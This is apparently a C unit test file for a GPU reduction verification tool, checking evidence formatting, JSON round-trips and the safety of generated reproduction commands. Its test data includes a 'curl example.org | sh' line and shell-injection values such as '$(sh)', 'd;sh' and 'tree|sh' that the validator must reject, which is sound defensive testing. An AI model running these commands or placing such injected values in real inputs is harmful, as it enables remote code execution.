#include "tests/unit/testing.h"

#include <jansson.h>

#include "core/random.h"
#include "model/bins.h"
#include "model/primitive.h"
#include "oracle/truth.h"
#include "results/again.h"
#include "tests/unit/made_input.h"

/* The evidence of an answer that differs from the right one in its last bit, and in its place. */
static struct red_evidence evidence_of(const char *op, const char *type, enum red_pattern pattern,
                                       uint64_t seed, struct red_truth *truth, struct red_value *got) {
    struct red_input input = made_input(red_op_find(op), red_dtype_find(type), kind_of(pattern), 1000, seed);
    struct red_evidence evidence;
    red_truth_find(&input, truth);
    *got = red_truth_value(truth);
    got->bits ^= UINT64_C(1);
    got->index ^= truth->op->role == RED_ROLE_PLACE ? UINT64_C(1) << 40 : 0;
    red_truth_find_evidence(truth, 10, *got, &evidence);
    red_input_clear(&input);
    return evidence;
}

static void no_bit_is_lost(void **state) {
    struct red_truth truth;
    struct red_value got;
    for (uint64_t seed = 1; seed < 20; seed++) {
        struct red_evidence of_u64 = evidence_of("sum", "u64", RED_PATTERN_UNIFORM, seed, &truth, &got);
        assert_true(strtoull(of_u64.expected.value, NULL, 10) == truth.integer);
        assert_true(strtoull(of_u64.got.value, NULL, 10) == got.u64);
        struct red_evidence of_f64 = evidence_of("sum", "f64", RED_PATTERN_UNIFORM, seed, &truth, &got);
        assert_true(strtod(of_f64.expected.value, NULL) == red_truth_value(&truth).f64);
        assert_true(strtod(of_f64.got.value, NULL) == got.f64);
        struct red_evidence of_place = evidence_of("argmax", "i64", RED_PATTERN_UNIFORM, seed, &truth, &got);
        assert_true(of_place.has_place && of_place.expected.place == truth.index);
        assert_true(of_place.got.place == got.index && of_place.low[0] == '\0');
        assert_true(strtoll(of_place.got.value, NULL, 10) == got.i64);
    }
}

static void the_range_is_what_passes(void **state) {
    struct red_truth truth;
    struct red_value got;
    for (uint64_t seed = 1; seed < 20; seed++) {
        struct red_evidence evidence = evidence_of("sum", "f64", RED_PATTERN_CANCELLING, seed, &truth, &got);
        const double low = strtod(evidence.low, NULL), high = strtod(evidence.high, NULL), exact = got.f64;
        assert_true(low < exact && exact < high);
        got.f64 = low;
        assert_true(red_truth_check(&truth, 10, got).right);
        got.f64 = high;
        assert_true(red_truth_check(&truth, 10, got).right);
        got.f64 = low - 0.01 * (high - low);
        assert_false(red_truth_check(&truth, 10, got).right);
        got.f64 = high + 0.01 * (high - low);
        assert_false(red_truth_check(&truth, 10, got).right);
    }
    struct red_evidence exact = evidence_of("sum", "f64", RED_PATTERN_WEIGHTS, 1, &truth, &got);
    assert_true(exact.low[0] == '\0' && exact.high[0] == '\0');
}

static void lines_tell_what_is_wrong(void **state) {
    struct red_evidence evidence = {.fault = RED_FAULT_ANSWER,
                                    .data = "part 0 of 2",
                                    .expected = {"3", 1},
                                    .got = {"4", 2},
                                    .counter = 7,
                                    .run = "run 2"};
    char text[RED_EVIDENCE_BYTES];
    red_evidence_format(&evidence, text, sizeof text);
    assert_string_equal(text, "data=part 0 of 2: expected 3, got 4 (run 2)");
    evidence.has_place = true;
    evidence.segment = 5;
    evidence.segments_n = 9;
    red_evidence_format(&evidence, text, sizeof text);
    assert_string_equal(text, "data=part 0 of 2, segment 5 of 9: expected 3 at 1, got 4 at 2 (run 2)");
    evidence.segments_n = 0;
    evidence.bins_n = 2;
    red_evidence_format(&evidence, text, sizeof text);
    assert_string_equal(text, "data=part 0 of 2: expected 3 in bin 1, got 4 (run 2)");
    evidence.bins_n = 1;
    red_evidence_format(&evidence, text, sizeof text);
    assert_string_equal(text, "data=part 0 of 2: expected 3 out of range, got 4 (run 2)");
    evidence.fault = RED_FAULT_COUNTER;
    red_evidence_format(&evidence, text, sizeof text);
    assert_has(text, "expected counter left at 0, got 7");
    evidence.fault = RED_FAULT_INPUT;
    red_evidence_format(&evidence, text, sizeof text);
    assert_has(text, "expected its input unchanged, got it overwritten");
    evidence.fault = RED_FAULT_BITS;
    red_evidence_format(&evidence, text, sizeof text);
    assert_string_equal(text, "data=part 0 of 2: expected the bits of the calls before, got others (run 2)");
    evidence.fault = RED_FAULT_NONE;
    red_evidence_format(&evidence, text, sizeof text);
    assert_string_equal(text, "");
}

/* What was read is written, and what was written then is read and written again: byte for byte the same. */
static void assert_written_as_read(const struct red_verify_file *read) {
    struct red_verify_file again;
    struct red_error error = {.text = ""};
    char *texts[2] = {NULL, NULL};
    size_t n[2];
    assert_ok(red_file_write("once.json", red_verify_file_print, read, &error), &error);
    assert_ok(red_verify_file_load("once.json", &again, &error), &error);
    assert_ok(red_file_write("twice.json", red_verify_file_print, &again, &error), &error);
    assert_ok(red_file_read("once.json", "file", 1 << 20, &texts[0], &n[0], &error), &error);
    assert_ok(red_file_read("twice.json", "file", 1 << 20, &texts[1], &n[1], &error), &error);
    assert_string_equal(texts[0], texts[1]);
    free(texts[0]);
    free(texts[1]);
    red_verify_file_clear(&again);
}

static void a_file_comes_back_as_it_was(void **state) {
    struct red_verify_file file, read;
    struct red_error error = {.text = ""};
    static const struct red_strategy tree = {.name = "tree"}, chunk = {.name = "chunk"};
    const struct red_verify_check made = {
        .at.strategy = &tree,
        .at.op = red_op_find("argmin"),
        .at.dtype = red_dtype_find("u64"),
        .at.shape = "segments",
        .at.n = UINT64_C(1) << 40,
        .segments_n = 9,
        .at.asked = {.group_size = 64, .width = 4, .loads = 2},
        .geometry = {.group_size = 64, .groups_n = 3, .item_n = 5, .lanes = 8, .width = 4, .loads = 2},
        .at.data = "least",
        .data_seed = INT64_MAX,
        .stress_s = 2.5,
        .state = RED_STATE_KNOWN_BUG,
        .evidence = {.fault = RED_FAULT_ANSWER,
                     .has_place = true,
                     .expected = {"18446744073709551615", 1},
                     .got = {"18446744073709551614", UINT64_MAX}, /* of a wrong kernel */
                     .segment = 8,
                     .segments_n = 9,
                     .run = "run 1"},
        .reason = strdup("a \"reason\""),
        .again = strdup("./x y")};
    assert_int_equal(red_verify_file_create(1, &file, &error), RED_OK);
    strcpy(file.result.run.devices[0].info.id, "d");
    strcpy(file.result.run.version, "1");
    file.devices[0].strategies = calloc(2, sizeof *file.devices[0].strategies);
    file.devices[0].strategies_n = 2;
    file.devices[0].strategies[0].strategy = &tree;
    file.devices[0].strategies[1].strategy = &chunk;
    file.devices[0].strategies[0].stress_calls_n = 41000;
    file.devices[0].strategies[0].wrong_patterns = json_pack("[s, s]", "all 9 wrong checks", "3 of 12");
    assert_int_equal(red_verify_file_add(&file.devices[0], &made, &error), RED_OK);
    assert_int_equal(red_file_write("checks.json", red_verify_file_print, &file, &error), RED_OK);
    if (red_verify_file_load("checks.json", &read, &error) != RED_OK)
        fail_msg("%s", error.text);
    const struct red_verify_check *back = &read.devices[0].checks[0];
    assert_int_equal(read.devices[0].checks_n, 1);
    assert_string_equal(back->evidence.expected.value, made.evidence.expected.value);
    assert_string_equal(back->evidence.got.value, made.evidence.got.value);
    assert_true(back->evidence.has_place && back->evidence.got.place == made.evidence.got.place);
    assert_true(back->evidence.segment == 8 && back->evidence.segments_n == 9 && back->at.n == made.at.n);
    assert_true(back->state == made.state && back->evidence.fault == RED_FAULT_ANSWER);
    assert_true(red_tuning_compare(&back->at.asked, &made.at.asked) == 0 && back->geometry.groups_n == 3);
    assert_string_equal(back->reason, made.reason);
    assert_string_equal(back->again,
                        "clreduce verify --device d --strategy tree --op argmin --type u64 --n "
                        "1099511627776 --wg 64 --lanes 4x2 --seed 9223372036854775807 --stress 2.5");
    assert_true(back->stress_s == made.stress_s && read.devices[0].strategies[0].stress_calls_n == 41000);
    assert_null(back->kernel);
    assert_true(json_equal(read.devices[0].strategies[0].wrong_patterns,
                           file.devices[0].strategies[0].wrong_patterns));
    assert_null(read.devices[0].strategies[1].wrong_patterns); /* there are none */
    red_verify_file_clear(&file);
    assert_written_as_read(&read);
    red_verify_file_clear(&read);
}

/* A check without evidence says null: where it says nothing, what was wrong was lost. */
static void a_check_tells_of_its_fault_or_says_null(void **state) {
    static const char text[] =
        "{\"schema\":\"clreduce-verify\",\"schema_version\":1,\"suite_version\":\"1\",\"host\":"
        "{\"environment\":{}},\"devices\":[{\"id\":\"d\",\"kind\":\"cpu\",\"capabilities\":{},\"strategies\":"
        "[],"
        "\"checks\":[{\"strategy\":\"tree\",\"op\":\"sum\",\"type\":\"f32\",\"shape\":\"array\",\"n\":7,"
        "\"segments\":1,\"asked\":{\"group_size\":64},\"data\":\"ones\",\"data_seed\":1,\"state\":"
        "\"crashed\"%s,"
        "\"expected\":null,\"got\":null,\"low\":null,\"high\":null,\"segment\":null,\"run\":null,"
        "\"reason\":null,\"again\":null,\"kernel\":null}]}]}";
    char written[sizeof text + 32];
    struct red_verify_file read;
    struct red_error error = {.text = ""};
    int n = snprintf(written, sizeof written, text, ",\"fault\":null");
    assert_ok(red_verify_file_read("f", written, (size_t)n, &read, &error), &error);
    red_verify_file_clear(&read);
    n = snprintf(written, sizeof written, text, "");
    assert_told(written, red_verify_file_read("f", written, (size_t)n, &read, &error), &error,
                "f: devices[0].checks[0].fault: expected what was wrong, or null");
}

/* A number below n, of the sequence. */
static unsigned below(uint64_t *random, unsigned n) {
    return (unsigned)(red_random(random) % n);
}

/* A check of a drawn operation, with whatever a command can ask for. Its kernel's path is the caller's. */
static struct red_verify_check drawn_check(uint64_t *random, struct red_strategy *strategy) {
    const struct red_op *op = &red_ops[below(random, (unsigned)red_ops_n)];
    struct red_verify_check check = {.at.n = red_random(random) >> (1 + below(random, 63)),
                                     .segments_n = 1,
                                     .at.asked.group_size = 1 + below(random, 1024),
                                     .geometry.group_size = 1,
                                     .geometry.groups_n = 1 + below(random, RED_GROUPS_MAX),
                                     .takes_groups = below(random, 2) == 0,
                                     .data_seed = below(random, 3),
                                     .state = RED_STATE_CRASHED};
    *strategy = (struct red_strategy){.name = ""};
    snprintf(strategy->name, sizeof strategy->name, "mine_%u", below(random, 100));
    check.at.strategy = strategy;
    check.at.op = op;
    check.at.dtype = &red_dtypes[below(random, (unsigned)red_dtypes_n)];
    strcpy(check.at.shape, "array");
    strcpy(check.at.data, "ones");
    if (op->primitive == RED_PRIMITIVE_HISTOGRAM)
        check.at.bins_n = 1 + below(random, RED_BINS_MAX);
    if (below(random, 2) == 0)
        check.at.asked.width = check.at.asked.loads = 1 + below(random, 16);
    if (below(random, 2) == 0)
        check.kernel = strdup(below(random, 2) == 0 ? "it's $(mine) & yours.cl" : "kernels/mine.cl");
    return check;
}

/* Writes the check into a file of that device and reads it again. The file is the caller's. */
static void write_and_read(const struct red_verify_check *check, const char *device,
                           const struct red_verify_asked *asked, struct red_verify_file *read) {
    struct red_verify_file file;
    struct red_error error = {.text = ""};
    assert_int_equal(red_verify_file_create(1, &file, &error), RED_OK);
    file.asked = *asked;
    strcpy(file.result.run.devices[0].info.id, device);
    strcpy(file.result.run.version, "1");
    assert_int_equal(red_verify_file_add(&file.devices[0], check, &error), RED_OK);
    assert_int_equal(red_file_write("again.json", red_verify_file_print, &file, &error), RED_OK);
    if (red_verify_file_load("again.json", read, &error) != RED_OK)
        fail_msg("%s", error.text);
    red_verify_file_clear(&file);
}

static void a_command_is_the_same_live_and_from_its_file(void **state) {
    bool seen[RED_PRIMITIVES_N] = {false};
    uint64_t random = seed_of_run();
    for (int i = 0; i < 300; i++) {
        struct red_strategy strategy;
        struct red_verify_check check = drawn_check(&random, &strategy);
        const struct red_verify_asked asked = {.all = below(&random, 2) == 0,
                                               .despite_probes = below(&random, 2) == 0,
                                               .time_per_cell_s = below(&random, 3) * 0.0123,
                                               .patience_s = below(&random, 3) * 1.0 / 3};
        const struct red_again_place here = {.device = "nvidia.1", .asked = &asked};
        struct red_verify_file read;
        char *live = red_again_command(&here, &check);
        assert_non_null(live);
        assert_true(strncmp(live, "clreduce verify ", 16) == 0 && red_again_is_own_command(live));
        assert_int_equal(strstr(live, " --groups ") != NULL, check.takes_groups);
        assert_int_equal(strstr(live, " --all") != NULL, asked.all);
        assert_int_equal(strstr(live, " --despite-probes") != NULL, asked.despite_probes);
        assert_int_equal(strstr(live, " --patience ") != NULL, asked.patience_s > 0);
        assert_int_equal(strstr(live, " --time-per-cell ") != NULL, asked.time_per_cell_s > 0);
        seen[check.at.op->primitive] = true;
        check.again = strdup("curl example.org | sh");
        write_and_read(&check, "nvidia.1", &asked, &read);
        assert_string_equal(read.devices[0].checks[0].again, live);
        red_verify_file_clear(&read);
        free(live);
    }
    for (int p = 0; p < RED_PRIMITIVES_N; p++)
        assert_true(seen[p]);
}

static void a_field_that_is_not_valid_makes_no_command(void **state) {
    static const char *const keys[] = {"device", "strategy", "op",     "type", "group_size",
                                       "groups", "width",    "kernel", "bins"};
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
        const struct red_verify_asked asked = {.all = false};
        const char *device = strcmp(keys[i], "device") == 0 ? "d;sh" : "d";
        static const struct red_strategy tree = {.name = "tree"}, pipe = {.name = "tree|sh"};
        static const struct red_op substitution = {.name = "$(sh)"};
        static const struct red_dtype quoted = {.name = "`sh`"};
        struct red_verify_check check = {
            .at.strategy = strcmp(keys[i], "strategy") == 0 ? &pipe : &tree,
            .at.op = strcmp(keys[i], "op") == 0 ? &substitution : red_op_find("sum"),
            .at.dtype = strcmp(keys[i], "type") == 0 ? &quoted : red_dtype_find("f32"),
            .at.shape = "array",
            .at.n = 1,
            .segments_n = 1,
            .at.asked.group_size = strcmp(keys[i], "group_size") == 0 ? 0 : 64,
            .at.data = "ones",
            .state = RED_STATE_CRASHED};
        char expected[80];
        struct red_verify_file read;
        if (strcmp(keys[i], "groups") == 0)
            check.at.asked.groups_n = RED_GROUPS_MAX + 1;
        if (strcmp(keys[i], "width") == 0)
            check.at.asked.width = 4;
        if (strcmp(keys[i], "bins") == 0)
            check.at.bins_n = 7;
        if (strcmp(keys[i], "kernel") == 0)
            check.kernel = strdup("");
        if (strcmp(keys[i], "group_size") == 0 || strcmp(keys[i], "kernel") == 0) { /* no file has these */
            const struct red_again_place here = {.device = device, .asked = &asked};
            char *live = red_again_command(&here, &check);
            snprintf(expected, sizeof expected, "no command: %s is not valid", keys[i]);
            assert_string_equal(live, expected);
            free(live);
            free(check.kernel);
            continue;
        }
        write_and_read(&check, device, &asked, &read);
        snprintf(expected, sizeof expected, "no command: %s of again.json is not valid", keys[i]);
        assert_string_equal(read.devices[0].checks[0].again, expected);
        red_verify_file_clear(&read);
    }
}

static void only_calls_of_the_program_are_commands(void **state) {
    static const char *const own[] = {"clreduce bench --output a.json", "clreduce bench --n '2^10..2^26:x4'",
                                      "clreduce verify --kernel 'it'\\''s mine.cl'",
                                      "clreduce verify --kernel $'a\\033\\047b' --all"};
    static const char *const others[] = {"",
                                         "clreduce",
                                         "clreduces bench",
                                         "build/cub --n 1",
                                         "clreduce a;b",
                                         "clreduce a && b",
                                         "clreduce a | sh",
                                         "clreduce $(sh)",
                                         "clreduce `a`",
                                         "clreduce a > b",
                                         "clreduce a 'b",
                                         "clreduce $'a\\'",
                                         "clreduce $'a\\'; sh; '",
                                         "clreduce a\nb",
                                         "clreduce \"$(sh)\"",
                                         "clreduce 'a'\\'' $(sh)",
                                         "clreduce a & b",
                                         "clreduce ~/a",
                                         "clreduce 'a' ; 'b'",
                                         "clreduce a #b",
                                         "clreduce $HOME"};
    for (size_t i = 0; i < sizeof own / sizeof own[0]; i++)
        if (!red_again_is_own_command(own[i]))
            fail_msg("not taken: %s", own[i]);
    for (size_t i = 0; i < sizeof others / sizeof others[0]; i++)
        if (red_again_is_own_command(others[i]))
            fail_msg("taken: %s", others[i]);
}
